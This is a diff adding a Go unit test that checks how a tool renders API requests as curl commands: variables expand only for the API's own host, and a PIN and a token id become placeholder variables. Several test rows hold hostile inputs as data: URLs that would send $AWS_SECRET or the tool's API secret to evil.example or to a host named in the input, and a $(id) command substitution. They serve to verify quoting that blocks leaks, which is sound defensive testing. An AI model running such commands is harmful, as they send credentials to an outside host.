@@ -158,3 +158,40 @@ func TestCurlCommandWords(t *testing.T) {
 		}
 	}
 }
+
+// A shown command has the variables of the user's own command, and one for each secret.
+// No variable goes to a host that the input names, other than the API's.
+func TestVariablesInCommands(t *testing.T) {
+	tests := []struct {
+		name, url, header, body string
+		unexpanded              []string
+		own                     bool
+		want                    string
+	}{
+		{"a host", "https://${host}/api/cards/$ID", "", "", []string{"${host}", "$ID"}, false, `curl -i "https://${host}/api/cards/$ID"`},
+		{"a host in capitals", "https://$HOST/api/currencies", "", "", []string{"$HOST"}, false, `curl -i "https://$HOST/api/currencies"`},
+		{"a query", "https://test.immersve.com/api/accounts/$ID/cards?limit=5&status=active", "", "", []string{"$ID"}, true, `curl -i "https://test.immersve.com/api/accounts/$ID/cards?limit=5&status=active"`},
+		{"the longest name", "https://test.immersve.com/api/cards/$ID_CARD", "", "", []string{"$ID", "$ID_CARD"}, true, `curl -i "https://test.immersve.com/api/cards/$ID_CARD"`},
+		{"a header", "https://test.immersve.com/api/cards/1", "$ID", "", []string{"$ID"}, true, "curl -i https://test.immersve.com/api/cards/1 \\\n  -H \"x-account-id: $ID\""},
+		{"a body", "https://test.immersve.com/api/cards", "", `{"cardProgramId":"$P"}`, []string{"$P"}, true, "curl -i https://test.immersve.com/api/cards \\\n  --data-raw '{\"cardProgramId\":\"'\"$P\"'\"}'"},
+		{"a secret in a body", "https://test-sec.immersve.com/api/cards/1/set-pin", "", `{"newPin": "4826", "x": "a"}`, nil, true, "curl -i https://test-sec.immersve.com/api/cards/1/set-pin \\\n  --data-raw '{\"newPin\": \"'\"$NEW_PIN\"'\", \"x\": \"a\"}'"},
+		{"a secret in a query", "https://test.immersve.com/api/cards/secure?tokenId=1E2426184B3676720F36E43A22649AFF-1000041153", "", "", nil, true, `curl -i "https://test.immersve.com/api/cards/secure?tokenId=$TOKEN_ID"`},
+		{"a stranger's host", "https://evil.example/$AWS_SECRET", "", "", []string{"$AWS_SECRET"}, false, `curl -i 'https://evil.example/$AWS_SECRET'`},
+		{"a stranger's domain", "https://$x.evil.example/$AWS_SECRET", "", "", []string{"$x", "$AWS_SECRET"}, false, `curl -i 'https://$x.evil.example/$AWS_SECRET'`},
+		{"the tool's own secrets", "https://$host/api/$IMMERSVE_API_SECRET", "", "", []string{"$host", "$IMMERSVE_API_SECRET"}, false, `curl -i https://"$host"'/api/$IMMERSVE_API_SECRET'`},
+		{"a command", "https://test.immersve.com/api/cards/$(id)", "", "", []string{"$(id)"}, true, `curl -i 'https://test.immersve.com/api/cards/$(id)'`},
+		{"no variable", "https://test.immersve.com/api/cards/$ID", "", "", nil, true, `curl -i 'https://test.immersve.com/api/cards/$ID'`},
+	}
+	for _, tt := range tests {
+		r := exchange.Request{Method: "GET", URL: exchange.ParseURL(tt.url), Unexpanded: tt.unexpanded}
+		if tt.header != "" {
+			r.Header.Set("x-account-id", tt.header)
+		}
+		if tt.body != "" {
+			r.Method, r.Body = "POST", exchange.NewBody([]byte(tt.body))
+		}
+		if got := r.CurlCommand(false, tt.own); got != tt.want {
+			t.Errorf("%s:\n got %s\nwant %s", tt.name, got, tt.want)
+		}
+	}
+}
